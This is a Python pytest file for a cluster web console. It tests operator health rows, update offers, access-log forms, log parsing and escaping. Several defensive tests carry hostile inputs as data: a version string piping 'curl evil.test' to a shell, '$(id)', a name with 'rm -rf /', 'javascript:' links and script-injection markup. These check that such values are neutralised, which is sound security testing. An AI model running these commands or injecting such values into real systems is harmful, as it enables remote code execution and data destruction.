"""What pages show, without a server."""

import time
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.console_objects import SCRIPT, cluster_operators, cluster_version, conditions, operator

from quarterdeck.api.meta import Object
from quarterdeck.console.condition_changes import condition_changes
from quarterdeck.console.feed import FragmentChange, digest, message, updates
from quarterdeck.console.log_tail import line_html, parse_line
from quarterdeck.console.pages.access_log_form import (
    AccessLogFields,
    FieldFault,
    fields_in,
    fields_of,
    logging_of,
)
from quarterdeck.console.pages.changes import compared, is_resource_version, merge_patch
from quarterdeck.console.pages.install_plans import next_version, upgrade_warning, waiting_plan
from quarterdeck.console.pages.offers import (
    OfferedRisk,
    OfferedUpdate,
    offered,
    unaccepted,
    version_to_type,
)
from quarterdeck.console.pages.operator import related, shown_events
from quarterdeck.console.pages.overview import headline, ordered, query_of, row_of, shown, summary
from quarterdeck.console.pages.progress import progress_of
from quarterdeck.console.pages.renderings import shown_entries
from quarterdeck.console.picture import drawn, stages_with_state
from quarterdeck.console.render import age, environment, fragment, show_age, static_url, with_ages
from quarterdeck.payload.graph import Graph, Mode, PayloadNode
from quarterdeck.status.health import health_of, worst_first

ROWS = [row_of(one, None) for one in worst_first(map(health_of, cluster_operators()))]
NOW = datetime(2026, 11, 17, 23, 0, tzinfo=UTC)


def test_the_worst_operator_is_first_and_a_disabled_one_last() -> None:
    assert (ROWS[0].name, ROWS[-1].name) == ("ingress", "baremetal")


def test_a_disabled_operator_is_counted_but_no_problem() -> None:
    counts = {name: count for name, _, count in summary(ROWS)}
    assert counts == {"well": 2, "bad": 1, "stale": 1, "moving": 1, "off": 1}
    assert headline(ROWS, None) == "Two operators need attention."


def test_the_headline_says_that_the_cluster_updates() -> None:
    assert headline(ROWS[-1:], progress_of(cluster_version())) == (
        "No operator needs attention. The cluster is updating."
    )


@pytest.mark.parametrize(
    ("query", "names"),
    [
        ({"state": "stale"}, ["machine-api"]),
        ({"q": "ROUTER"}, ["ingress"]),
        ({"q": "metal", "state": "well"}, []),
        ({"state": "nonsense", "q": "sam"}, ["sample"]),
    ],
)
def test_filters(query: dict[str, str], names: list[str]) -> None:
    assert [row.name for row in ROWS if shown(row, query_of(query))] == names


def test_sorts() -> None:
    assert [row.name for row in ordered(ROWS, "name")] == sorted(row.name for row in ROWS)
    assert ordered(ROWS, "since")[0].name == "machine-api"


def test_a_script_in_a_message_is_text() -> None:
    row = row_of(health_of(operator("dns", conditions(message=SCRIPT))), None)
    html = fragment(environment(), "_row.html", row=row)
    assert "<script" not in html
    assert "&lt;script&gt;" in html
    assert "<img" not in html


@given(st.text(max_size=60))
def test_no_message_can_end_its_cell(message: str) -> None:
    row = row_of(health_of(operator("x", conditions(message=f"</td>{message}<b>"))), None)
    html = fragment(environment(), "_row.html", row=row)
    assert html.count("</td>") == 5
    assert "<b>" not in html


def test_an_update_is_only_what_changed() -> None:
    before = {"a": "1", "b": "2", "c": "3"}
    after = {"a": "1", "b": "x", "d": "4"}
    assert updates(before, after) == [
        FragmentChange("b", "x"),
        FragmentChange("d", "4"),
        FragmentChange("c", None),
    ]
    assert digest(before) != digest(after)
    assert digest(before) == digest(dict(reversed(list(before.items()))))


@given(
    st.dictionaries(st.sampled_from("abcd"), st.text(max_size=3)),
    st.dictionaries(st.sampled_from("abcd"), st.text(max_size=3)),
)
def test_updates_make_the_one_page_into_the_other(
    before: dict[str, str], after: dict[str, str]
) -> None:
    page = dict(before)
    for one in updates(before, after):
        if one.html is None:
            del page[one.id]
        else:
            page[one.id] = one.html
    assert page == after


def test_an_age_is_no_part_of_a_fragment() -> None:
    made = str(age("2026-11-17T22:00:00Z"))
    assert ">2026-11-17 22:00:00 UTC<" in made
    assert ">1h<" in with_ages(made, NOW)
    assert "none" in str(age("nonsense"))


@pytest.mark.parametrize(
    ("seconds", "text"), [(-5, "0s"), (59, "59s"), (60, "1m"), (3600, "1h"), (200000, "2d")]
)
def test_show_age(seconds: float, text: str) -> None:
    assert show_age(seconds) == text


def test_progress() -> None:
    found = progress_of(cluster_version())
    assert (found.before, found.wanted, found.updating) == ("0.1.0", "0.2.0", True)
    assert (found.done, found.total, found.percent) == (34, 48, 70)
    assert found.waiting_on == ("machine-api",)


@pytest.mark.parametrize("version", [{}, {"status": {}}, {"status": {"conditions": None}}])
def test_progress_of_a_cluster_that_reports_nothing(version: Object) -> None:
    assert not progress_of(version).updating


def test_a_link_from_the_cluster_is_never_a_script() -> None:
    version = {"status": {"availableUpdates": [{"version": "1", "url": "javascript:x"}]}}
    risk = {"name": "Slow", "message": "it is slow", "url": "javascript:y"}
    update = {"version": "1", "recommended": "Unknown", "risks": [risk], "blocked": False}
    (found,) = offered({"updates": [update]}, version).updates
    assert (found.url, found.risks[0].url) == ("", "")


RISKY = OfferedUpdate(
    version="2.0.0",
    recommended=False,
    risks=(OfferedRisk(name="Slow", message=""), OfferedRisk(name="Loud", message="")),
)


@pytest.mark.parametrize(
    ("form", "missing"),
    [
        ({}, ["Slow", "Loud"]),
        ({"accept-1-1": "2.0.0 Slow"}, ["Loud"]),
        ({"accept-1-1": "2.0.0 Slow", "accept-1-2": "2.0.0 Loud"}, []),
        ({"accept-1-1": "1.9.0 Slow", "accept-1-2": "yes"}, ["Slow", "Loud"]),
        ({"version": "2.0.0 Slow"}, ["Slow", "Loud"]),
    ],
)
def test_each_risk_of_an_update_has_to_be_accepted(
    form: dict[str, str], missing: list[str]
) -> None:
    assert unaccepted(RISKY, form) == missing


def test_recommended_updates_come_first_and_blocked_ones_last() -> None:
    def update(version: str, recommended: str = "True", *, blocked: bool = False) -> Object:
        return {"version": version, "recommended": recommended, "blocked": blocked, "risks": []}

    view = {"updates": [update("3", blocked=True), update("2", "False"), update("1")]}
    found = offered({**view, "blocked": "mind the gap"}, {})
    assert [one.version for one in found.updates] == ["1", "2", "3"]
    assert found.blocked == "mind the gap"
    assert offered({"updates": None, "notRetrieved": "no service"}, {}).unknown == "no service"


@pytest.mark.parametrize(
    ("version", "typed"),
    [
        ("4.21.0-rc.1+abc", "4.21.0-rc.1+abc"),
        ("1.0; curl evil.test | sh", "VERSION"),
        ("$(id)", "VERSION"),
        ("'", "VERSION"),
        ("1\n", "VERSION"),
        ("1" * 129, "VERSION"),
    ],
)
def test_a_version_in_a_command_is_nothing_but_a_version(version: str, typed: str) -> None:
    assert version_to_type([OfferedUpdate(version=version)]) == typed
    assert version_to_type([]) == "VERSION"


@pytest.mark.parametrize(
    ("text", "possible"),
    [("1", True), ("9" * 19, True), ("9" * 20, False), ("²", False), ("", False)],
)
def test_a_resource_version_of_a_form(text: str, possible: bool) -> None:
    assert is_resource_version(text) is possible


def test_a_count_with_too_many_digits_does_no_harm() -> None:
    condition = {"type": "Progressing", "status": "True", "message": f"{'9' * 5000} of 1 done"}
    assert progress_of({"status": {"conditions": [condition]}}).updating


def test_the_first_message_to_a_viewer_is_the_whole_page() -> None:
    assert message([FragmentChange("a", "1")], "s", "whole").startswith(b"event: whole\nid: s\n")


def test_changes_of_conditions() -> None:
    before, after = operator("x", conditions()), operator("x", conditions(degraded="True"))
    found = condition_changes(before, after, NOW)
    assert [(one.type, one.before, one.after) for one in found] == [("Degraded", "False", "True")]
    assert found[0].at == NOW  # the condition does not say that it changed later than before
    assert condition_changes(None, after, NOW) == []
    told = operator("x", conditions(degraded="True", lastTransitionTime="2026-11-17T22:59:00Z"))
    assert condition_changes(before, told, NOW)[0].at == NOW - timedelta(minutes=1)
    ahead = operator("x", conditions(degraded="True", lastTransitionTime="2030-01-01T00:00:00Z"))
    assert condition_changes(before, ahead, NOW)[0].at == NOW


def test_events_are_shown_newest_first() -> None:
    events: list[Any] = [
        {"note": "old", "eventTime": "2026-01-01T00:00:00Z"},
        {"note": "new", "series": {"count": 3, "lastObservedTime": "2026-02-01T00:00:00Z"}},
        {"note": "never"},
    ]
    assert [(one.note, one.count) for one in shown_events(events)] == [
        ("new", 3),
        ("old", 1),
        ("never", 1),
    ]


def test_a_related_object_with_an_odd_name_is_no_command() -> None:
    found = related([{"resource": "pods", "name": "x; rm -rf /", "namespace": "n"}])
    assert found[0].kubectl == ""
    assert related([{"group": "apps", "resource": "deployments", "name": "x"}])[0].kubectl == (
        "kubectl get deployments.apps x"
    )


JSON = st.recursive(
    st.integers() | st.text(max_size=3) | st.booleans(),
    lambda inner: (
        st.dictionaries(st.sampled_from("abc"), inner, max_size=3) | st.lists(inner, max_size=2)
    ),
    max_leaves=6,
)


@given(st.dictionaries(st.sampled_from("abc"), JSON), st.dictionaries(st.sampled_from("abc"), JSON))
def test_a_merge_patch_makes_the_one_into_the_other(before: Object, after: Object) -> None:
    assert _merged(before, merge_patch(before, after)) == after


def _merged(target: Any, patch: Any) -> Any:
    """RFC 7396."""
    if not isinstance(patch, dict):
        return patch
    made = dict(target) if isinstance(target, dict) else {}
    for name, value in patch.items():
        if value is None:
            made.pop(name, None)
        else:
            made[name] = _merged(made.get(name), value)
    return made


def test_a_comparison_shows_lines_of_yaml() -> None:
    lines = compared(None, {"logging": {"access": 1}})
    assert [(one.kind, one.text) for one in lines] == [
        ("add", "+ logging:"),
        ("add", "+   access: 1"),
    ]


FIELDS = AccessLogFields(
    destination="Syslog",
    address="192.0.2.9",
    port="514",
    facility="local2",
    max_length="2048",
    format="%ci %ST",
    request_headers="User-Agent:64\nX-Request-Id:32",
    cookie="Prefix",
    cookie_name="sid",
    cookie_length="20",
    empty_requests="Ignore",
)


def test_the_form_and_the_spec_say_the_same() -> None:
    assert fields_of(logging_of(FIELDS)) == FIELDS
    assert logging_of(AccessLogFields()) is None
    assert fields_of(None) == AccessLogFields()


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"port": "http"}, "port"),
        ({"port": ""}, "port"),
        ({"destination": "Pigeon"}, "destination"),
        ({"request_headers": "User-Agent"}, "request headers"),
        ({"max_length": "٣"}, "maxLength"),
    ],
)
def test_a_fault_names_its_field(change: dict[str, str], field: str) -> None:
    form = {name: getattr(FIELDS, name) for name in FIELDS.__struct_fields__} | change
    with pytest.raises(FieldFault, match=field):
        logging_of(fields_in(form))


def test_an_entry_shows_what_it_matches() -> None:
    rendering = {
        "deployments": [{"deployment": {"metadata": {"name": "a"}}, "entries": [0], "origins": []}]
    }
    subscription = {"spec": {"config": [{"env": []}, {"selector": {"x": 1}, "env": []}]}}
    assert [one["matches"] for one in shown_entries(subscription, rendering)] == [["a"], []]


def test_an_approved_plan_does_not_wait() -> None:
    assert waiting_plan(None) is None
    assert waiting_plan({"spec": {"approved": True}}) is None


WARNED = {
    "status": {
        "conditions": [
            {"type": "UpgradeConfigWarning", "status": "True", "message": "config[1] is lost"}
        ]
    }
}


def test_what_an_update_breaks_is_known_from_the_catalog_or_from_the_operator() -> None:
    told = upgrade_warning(WARNED)
    assert told == "config[1] is lost"
    assert upgrade_warning({}) == ""
    unread = next_version({"why": "the catalog is a directory"}, told)
    assert (unread.breaks, unread.unknown) == ((told,), "the catalog is a directory")
    read = next_version({"csv": "x.v2", "breaks": ["config[0]: gone"], "deployments": []}, told)
    assert (read.breaks, read.unknown) == (("config[0]: gone",), "")


def test_a_line_of_json_is_taken_apart() -> None:
    line = parse_line('2026-11-17T11:28:01.020Z {"level":"warning","event":"waiting","n":1}', "p")
    assert line is not None
    assert (line.time, line.level, line.event, line.fields) == (
        "11:28:01.020",
        "warning",
        "waiting",
        "n=1",
    )


def test_a_line_for_people_is_taken_apart() -> None:
    text = "2026-11-18T00:06:24.079Z [info     ] manifest skipped     manifest=x.yaml v=4 why='no'"
    line = parse_line(f"2026-11-18T00:06:24.080Z {text}", "p")
    assert line is not None
    assert (line.level, line.event) == ("debug", "manifest skipped")
    assert line.fields == "manifest=x.yaml v=4 why='no'"


@pytest.mark.parametrize("rest", [" " * 3990, "a " * 1995, "a  b=" * 790, "_" * 3990])
def test_no_line_takes_long(rest: str) -> None:
    began = time.process_time()
    for _ in range(10):
        parse_line(f"2026-11-18T00:06:24.080Z x [info] {rest}", "p")
    assert time.process_time() - began < 1.0


def test_a_line_without_an_event_has_its_fields() -> None:
    line = parse_line("2026-11-18T00:06:24.080Z x [info     ]  a=1 b=2  ", "p")
    assert line is not None
    assert (line.event, line.fields) == ("", "a=1 b=2")


@given(st.text(max_size=80))
def test_any_line_is_escaped(text: str) -> None:
    line = parse_line(f"2026-11-17T11:28:01.020Z <b>{text}", "p")
    assert line is not None
    assert "<b>" not in line_html(line)


def test_the_picture_shows_where_an_update_is() -> None:
    graph = Graph(
        mode=Mode.UPDATING,
        nodes=(
            PayloadNode(number=0, run_level=0, component=SCRIPT, manifests=(), after=()),
            PayloadNode(number=1, run_level=10, component="b", manifests=(), after=(0,)),
        ),
    )
    svg = drawn(stages_with_state(graph, 0, 2, ["b"]))
    assert "<script" not in svg
    assert "run level 10" in svg
    assert "style" not in svg


def test_a_static_file_has_an_address_of_its_content() -> None:
    assert static_url("console.css").startswith("/static/")
    assert static_url("console.css") != static_url("console.js")
